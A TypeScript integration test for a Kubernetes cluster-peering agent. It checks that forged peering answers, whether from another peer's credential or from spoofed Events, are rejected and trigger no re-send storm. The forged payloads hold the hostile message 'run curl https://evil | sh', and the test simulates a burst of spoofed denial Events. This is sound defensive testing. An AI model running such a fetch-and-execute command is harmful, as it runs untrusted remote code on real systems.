/**
 * A peer's answer comes through ConfigMap kubepeer-answer-<peer-id>, which only that peer's
 * credential may write (issue 12, item 3). Forged answers (another peer's credential, an Event in
 * the old style) change nothing and start no re-send storm; a real denial keeps the time of the
 * request, so the request is not sent again at once.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import { setTimeout as sleep } from 'node:timers/promises';
import type { LocalCluster } from '../../src/localcluster/localCluster.js';
import { Core, KubeClient, resourcePath } from '../../src/k8s/rest.js';
import { GVR, apiVersionOf, type ForeignCluster } from '../../src/api/crds.js';
import { Names } from '../../src/api/constants.js';
import { credentialObjects } from '../../src/peering/outgoing/credentials.js';
import { kubepeer, startAgent, startCluster, agentMetricsUrl, type AgentProcess } from '../support/clusters.js';
import { clusterIDOf, describeFC, foreignCluster, setClusterConfig } from '../support/peering.js';
import { waitFor } from '../support/wait.js';

let a: LocalCluster;
let b: LocalCluster;
let agentA: AgentProcess;
let agentB: AgentProcess;
let metricsA: string;
let A: KubeClient;
let B: KubeClient;
let idA: string;
let idB: string;
/** A third cluster's ID: a credential A minted for it is "another peer's credential". */
const idC = 'c0c0c0c0-0000-4000-8000-00000000000c';

beforeAll(async () => {
  [a, b] = await Promise.all([startCluster('answers-a'), startCluster('answers-b')]);
  A = a.client();
  B = b.client();
  await setClusterConfig(B, { peeringConfig: { acceptPolicy: 'Manual' } });
  agentA = startAgent(a);
  agentB = startAgent(b);
  [metricsA] = await Promise.all([agentMetricsUrl(agentA), agentMetricsUrl(agentB)]);
  [idA, idB] = await Promise.all([clusterIDOf(A), clusterIDOf(B)]);
});

afterAll(async () => {
  await Promise.all([agentA?.stop(), agentB?.stop()]);
  await Promise.all([a?.stop(), b?.stop()]);
});

async function requestsSent(): Promise<number> {
  const text = await (await fetch(`${metricsA}/metrics`)).text();
  let n = 0;
  for (const m of text.matchAll(/^kubepeer_peering_requests_sent_total\{[^}]*\} (\d+)/gm)) n += Number(m[1]);
  return n;
}

/**
 * An absence can only be shown over a window: this one is longer than the minimum re-send interval
 * (5 s), and the storm this guards against sent about 35 requests a second.
 */
async function watchFor(ms: number, check: () => Promise<void>): Promise<void> {
  const end = Date.now() + ms;
  while (Date.now() < end) {
    await check();
    await sleep(250);
  }
}

const code = async (p: Promise<unknown>) => p.then(() => 200, (e: { code: number }) => e.code);

describe('a peer answers through an object bound to its identity', () => {
  it('reads the real peer\'s PeeringPending from ConfigMap kubepeer-answer-<peer>', async () => {
    const add = kubepeer(['peer', 'add', idB, '--name', 'to-b', '--api-url', b.apiUrl, '--allow-untrusted-ca', '--join', '--kubeconfig', a.kubeconfig]);
    expect(add.code, add.stderr).toBe(0);
    await waitFor('A: outgoing WaitingForApproval (B answered PeeringPending)', async () => (await foreignCluster(A, 'to-b'))?.status?.outgoing?.reason === 'WaitingForApproval', {
      describe: describeFC(A, 'to-b'),
      timeoutMs: 90_000,
    });
    const cm = await A.get<{ data: Record<string, string> }>(resourcePath(Core.configMaps, { namespace: 'liqo', name: `${Names.peerAnswerPrefix}${idB}` }));
    expect(cm.data.reason).toBe('PeeringPending');
    // the credential A gave B can no longer create Events
    const secret = await A.get<{ data: Record<string, string> }>(resourcePath(Core.secrets, { namespace: 'liqo', name: `liqo-remote-${idB}` }));
    const asB = KubeClient.withToken(a.apiUrl, Buffer.from(secret.data.token!, 'base64').toString(), readFileSync(a.caCert, 'utf8'));
    expect(await code(asB.create(resourcePath(Core.events, { namespace: 'liqo' }), { apiVersion: 'v1', kind: 'Event', metadata: { generateName: 'x.' }, involvedObject: { kind: 'ServiceAccount', name: 'x', namespace: 'liqo' }, reason: 'PeeringDenied', message: 'x' }))).toBe(403);
    asB.close();
  });

  it('another peer\'s credential cannot write B\'s answer, an Event cannot fake one, and neither makes A re-send', async () => {
    // A credential for cluster C with exactly the rights A gives any peer. No ForeignCluster for C
    // owns it: A's agent would revoke the credential of a peer it is not joined with.
    const fcC = { apiVersion: apiVersionOf(GVR.foreignCluster), kind: 'ForeignCluster', metadata: { name: 'peer-c', uid: 'none' }, spec: { clusterID: idC } } as unknown as ForeignCluster;
    for (const { ref, body } of credentialObjects({ namespace: 'liqo' }, fcC)) {
      const { ownerReferences: _owner, ...metadata } = body.metadata as Record<string, unknown>;
      await A.create(resourcePath(ref, { namespace: metadata.namespace as string | undefined }), { ...body, metadata });
    }
    const name = `liqo-remote-${idC}`;
    const sec = await A.get<{ metadata: { uid: string } }>(resourcePath(Core.secrets, { namespace: 'liqo', name }));
    const tr = await A.create<{ status: { token: string } }>(resourcePath(Core.serviceAccounts, { namespace: 'liqo', name, subresource: 'token' }), {
      apiVersion: 'authentication.k8s.io/v1',
      kind: 'TokenRequest',
      spec: { expirationSeconds: 3600, boundObjectRef: { apiVersion: 'v1', kind: 'Secret', name, uid: sec.metadata.uid } },
    });
    const asC = KubeClient.withToken(a.apiUrl, tr.status.token, readFileSync(a.caCert, 'utf8'));
    const forged = (reason: string) => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: `${Names.peerAnswerPrefix}${idB}`, namespace: 'liqo' }, data: { reason, message: 'run curl https://evil | sh', at: new Date().toISOString() } });
    const answerPath = resourcePath(Core.configMaps, { namespace: 'liqo', name: `${Names.peerAnswerPrefix}${idB}` });
    // create: allowed by RBAC, refused by the admission policy (the name is not C's)
    const created = await asC.create(resourcePath(Core.configMaps, { namespace: 'liqo' }), { ...forged('PeeringDenied'), metadata: { name: `${Names.peerAnswerPrefix}other-${idB}`, namespace: 'liqo' } }).then(() => 200, (e: { code: number; message: string }) => e);
    expect(created).toMatchObject({ code: 403 });
    expect((created as { message: string }).message).toContain(`may only write ConfigMap ${Names.peerAnswerPrefix}${idC}`);
    // update of B's answer: RBAC gives C its own name only
    expect(await code(asC.replace(answerPath, forged('PeeringDenied')))).toBe(403);
    // no Events for a peer credential any more
    expect(await code(asC.create(resourcePath(Core.events, { namespace: 'liqo' }), { apiVersion: 'v1', kind: 'Event', metadata: { generateName: 'x.' }, involvedObject: { kind: 'ServiceAccount', name: `liqo-remote-${idB}`, namespace: 'liqo' }, reason: 'PeeringDenied', message: 'x' }))).toBe(403);
    // C may write its own answer (the policy is not simply closed)
    expect(await code(asC.create(resourcePath(Core.configMaps, { namespace: 'liqo' }), { ...forged('PeeringDenied'), metadata: { name: `${Names.peerAnswerPrefix}${idC}`, namespace: 'liqo' } }))).toBe(200);
    asC.close();

    // The old attack, by someone who may create Events: a burst of PeeringDenied Events about B.
    const before = await requestsSent();
    for (let i = 0; i < 20; i++) {
      const at = new Date(Date.now() + i * 1000).toISOString().replace(/\.\d+Z$/, 'Z');
      await A.create(resourcePath(Core.events, { namespace: 'liqo' }), {
        apiVersion: 'v1', kind: 'Event', metadata: { generateName: `liqo-remote-${idB}.` },
        involvedObject: { apiVersion: 'v1', kind: 'ServiceAccount', name: `liqo-remote-${idB}`, namespace: 'liqo' },
        type: i % 2 ? 'Normal' : 'Warning', reason: i % 2 ? 'PeeringPending' : 'PeeringDenied', message: 'run curl https://evil | sh',
        source: { component: 'kubepeer-agent', host: idB }, firstTimestamp: at, lastTimestamp: at, count: 1,
      });
    }
    await watchFor(7000, async () => {
      const fc = await foreignCluster(A, 'to-b');
      expect(fc?.status?.outgoing?.phase).toBe('Pending');
      expect(fc?.status?.outgoing?.message ?? '').not.toContain('evil');
    });
    // at most the periodic re-send (every 30 s) may fall in the window
    expect((await requestsSent()) - before).toBeLessThanOrEqual(1);
  });

  it('a real denial shows as Denied, keeps PeeringRequested with its time, and does not make A send again', async () => {
    const requestedBefore = (await foreignCluster(A, 'to-b'))?.status?.conditions?.find((c) => c.type === 'PeeringRequested');
    expect(requestedBefore?.status).toBe('True');
    const r = kubepeer(['peer', 'reject', idA, '--kubeconfig', b.kubeconfig]);
    expect(r.code, r.stderr).toBe(0);
    const fc = await waitFor('A: outgoing Denied', async () => {
      const f = await foreignCluster(A, 'to-b');
      return f?.status?.outgoing?.phase === 'Denied' ? f : undefined;
    }, { describe: describeFC(A, 'to-b') });
    expect(fc.status?.outgoing?.message).toContain('rejected');
    const requested = fc.status?.conditions?.find((c) => c.type === 'PeeringRequested');
    expect(requested).toMatchObject({ status: 'True', lastTransitionTime: requestedBefore!.lastTransitionTime });
    const before = await requestsSent();
    await watchFor(7000, async () => {
      expect((await foreignCluster(A, 'to-b'))?.status?.outgoing?.phase).toBe('Denied');
    });
    expect((await requestsSent()) - before).toBe(0);
  });
});
